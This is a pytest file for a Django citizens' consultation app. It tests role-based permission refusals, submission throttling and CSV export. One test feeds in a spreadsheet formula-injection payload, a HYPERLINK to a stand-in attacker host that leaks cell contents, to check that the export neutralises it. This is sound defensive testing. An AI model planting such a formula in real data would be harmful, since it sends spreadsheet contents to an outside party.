"""The consultation's services check the permission matrix themselves (docs/security.md): refusals name the role
held and the role needed, and write nothing. Citizens' submissions are throttled."""

import csv
import io

import pytest
from django.contrib.auth.models import AnonymousUser
from django.core.exceptions import PermissionDenied
from django.urls import reverse

from atazan.accounts.domain.roles import Role
from atazan.accounts.services import user_create
from atazan.audit.models import AuditEntry
from atazan.consultation import services
from atazan.consultation.models import ImportRejection, Proposal, ProposalArticle, Support
from tests.consultation.helpers import PASSWORD, citizen, moderator, secretary, submit, valid_iin

pytestmark = pytest.mark.django_db

TEXT = "Предлагаю закрепить выборность акимов районов и городов областного значения (статья 81)."


def _user(role: Role):
    return user_create(username=f"u-{role.value}", password=PASSWORD, roles=[role])


def _applicant(serial: int = 1) -> services.Applicant:
    return services.Applicant(surname="Серiков", name="Айдос", iin=valid_iin(serial))


@pytest.mark.parametrize("role", [r for r in Role if r is not Role.CITIZEN])
def test_only_a_citizen_submits_in_their_own_name(role):
    with pytest.raises(PermissionDenied, match=r"consultation\.proposal\.submit: it requires the role citizen"):
        services.proposal_submit(author=_user(role), applicant=_applicant(), region="Astana", language="ru", text=TEXT)
    with pytest.raises(PermissionDenied, match="anonymous"):
        services.proposal_submit(author=AnonymousUser(), applicant=_applicant(), region="Astana", language="ru",
                                 text=TEXT)  # fmt: skip
    assert Proposal.objects.count() == 0 and not AuditEntry.objects.filter(action__startswith="consultation").exists()
    assert services.proposal_submit(author=citizen(), applicant=_applicant(), region="Astana", language="ru",
                                    text=TEXT).author.username == "aidos"  # fmt: skip


def test_support_is_a_citizens_and_not_for_ones_own_proposal():
    author = citizen("author")
    p = submit(TEXT, author=author)
    for role in (Role.WORKING_GROUP_SECRETARY, Role.MODERATOR, Role.ADMINISTRATOR):
        with pytest.raises(PermissionDenied, match="consultation.proposal.support"):
            services.proposal_support(proposal=p, citizen=_user(role))
    with pytest.raises(services.ProposalRefused, match="not their own"):
        services.proposal_support(proposal=p, citizen=author)
    assert Support.objects.count() == 0
    assert services.proposal_support(proposal=p, citizen=citizen("other")) is True


def test_review_and_answer_are_the_working_group_secretarys():
    p = submit(TEXT)
    for user in (citizen(), moderator(), _user(Role.COMMISSION_SECRETARY), _user(Role.ADMINISTRATOR)):
        with pytest.raises(PermissionDenied, match="consultation.proposal.review"):
            services.proposal_decide(proposal=p, status="under_review", answer="", decided_by=user)
        with pytest.raises(PermissionDenied, match="consultation.proposal.review"):
            services.proposals_review_start(numbers=[p.registration_number], reviewer=user)
        with pytest.raises(PermissionDenied, match="consultation.proposal.review"):
            services.article_link_confirm(proposal=p, article="81", constitution="2026", confirmed_by=user)
    p.refresh_from_db()
    assert p.status == "registered" and not p.history.exists()
    assert not ProposalArticle.objects.filter(source="confirmed").exists()
    wg = secretary()
    assert services.proposals_review_start(numbers=[p.registration_number], reviewer=wg) == 1
    with pytest.raises(PermissionDenied, match="consultation.proposal.answer"):
        services.proposal_decide(proposal=p, status="rejected", answer="Нет", decided_by=moderator("mod2"))
    assert services.proposal_decide(proposal=p, status="rejected", answer="Нет", decided_by=wg).status == "rejected"


def test_moderation_is_the_moderators():
    p = submit(TEXT)
    for user in (citizen(), secretary(), _user(Role.ADMINISTRATOR)):
        with pytest.raises(PermissionDenied, match="consultation.proposal.moderate"):
            services.proposals_moderate(numbers=[p.registration_number], action="hide", moderator=user)
    p.refresh_from_db()
    assert p.visibility == "visible"
    assert (
        services.proposals_moderate(numbers=[p.registration_number], action="hide", moderator=moderator(), note="spam")
        == 1
    )


def test_import_is_the_working_group_secretarys_or_the_consoles():
    row = {"registration_number": "ЗТ-2025-000500", "surname": "Ким", "name": "Ольга", "iin": valid_iin(2),
           "region": "Astana", "language": "ru", "text": TEXT}  # fmt: skip
    for user in (citizen(), moderator(), _user(Role.ADMINISTRATOR)):
        with pytest.raises(PermissionDenied, match="consultation.proposals.import"):
            services.proposals_import([row], source="x.csv", actor=user)
    assert Proposal.objects.count() == 0 and ImportRejection.objects.count() == 0
    assert services.proposals_import([row], source="x.csv", actor=secretary()).created == 1
    entry = AuditEntry.objects.get(action="consultation.proposal.register")
    assert entry.actor == "import:sec"


def test_a_citizen_submits_at_most_ten_an_hour_and_is_told_when_to_retry():
    user, other = citizen(), citizen("other")
    for n in range(services.SUBMIT_LIMIT):
        submit(f"{TEXT} Вариант {n}.", author=user)
    with pytest.raises(services.SubmissionThrottled, match="at most 10 proposals per account in 60 minutes") as err:
        submit(f"{TEXT} Ещё один.", author=user)
    assert 0 < err.value.retry_after_s <= 3601 and "try again in" in str(err.value)
    assert Proposal.objects.filter(author=user).count() == services.SUBMIT_LIMIT
    submit(TEXT, author=other)  # the limit is per account
    services.proposals_import([{"registration_number": "ЗТ-1", "surname": "Ким", "name": "Ольга", "iin": valid_iin(),
                                "region": "Astana", "language": "ru", "text": TEXT}], source="y.csv",
                              actor="console:test")  # fmt: skip
    assert Proposal.objects.count() == services.SUBMIT_LIMIT + 2  # imports are not throttled


def test_throttled_submission_page_answers_429_with_the_wait(client, english):
    user = citizen()
    client.force_login(user)
    form = {"kind": "proposal", "surname": "Серiков", "name": "Айдос", "iin": valid_iin(), "region": "Astana",
            "language": "ru"}  # fmt: skip
    for n in range(services.SUBMIT_LIMIT):
        assert client.post(reverse("consultation:submit"), {**form, "text": f"{TEXT} {n}"}).status_code == 302
    refused = client.post(reverse("consultation:submit"), {**form, "text": TEXT + " 11"})
    assert refused.status_code == 429
    assert b"Too many proposals from this account" in refused.content and b"minutes" in refused.content


def test_pages_refuse_what_the_matrix_refuses(client, english):
    p = submit(TEXT)
    client.force_login(secretary())
    # the page lets the secretary in; the service refuses hiding (a moderator's action) and says why
    response = client.post(reverse("consultation:review"), {"action": "hide", "selected": [p.registration_number]},
                           follow=True)  # fmt: skip
    assert "Only the moderator may do this (your role: secretary of the working group)" in response.content.decode()
    client.force_login(moderator())
    decided = client.post(reverse("consultation:decide", args=[p.registration_number]),
                          {"status": "under_review", "answer": ""})  # fmt: skip
    assert decided.status_code == 403
    client.force_login(secretary("sec2"))
    assert client.post(reverse("consultation:submit"), {"text": TEXT}).status_code == 403
    page = client.get(reverse("consultation:submit"))
    assert b"Only verified citizens submit proposals" in page.content
    p.refresh_from_db()
    assert p.status == "registered" and p.visibility == "visible"


def test_open_data_csv_neutralises_spreadsheet_formulas(client):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1, "Статья 53")'
    submit(formula, serial=1)
    submit("+7 777 000 00 00 — позвоните мне о статье 11", serial=2)
    body = b"".join(client.get(reverse("consultation:export_csv")).streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    texts = sorted(r["text"] for r in rows)
    assert texts == sorted(["'" + formula, "'+7 777 000 00 00 — позвоните мне о статье 11"])
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    assert rows[0]["support_count"] == "0"  # plain numbers are left alone


def test_pages_offer_only_what_the_matrix_allows(client, english):
    p = submit(TEXT)
    client.force_login(moderator())
    detail = client.get(p.get_absolute_url()).content
    queue = client.get(reverse("consultation:review")).content
    assert b"Record decision" not in detail and b'value="hide"' in queue and b'value="review"' not in queue
    client.force_login(secretary())
    detail = client.get(p.get_absolute_url()).content
    queue = client.get(reverse("consultation:review")).content
    assert b"Record decision" in detail and b'value="hide"' not in queue and b'value="review"' in queue
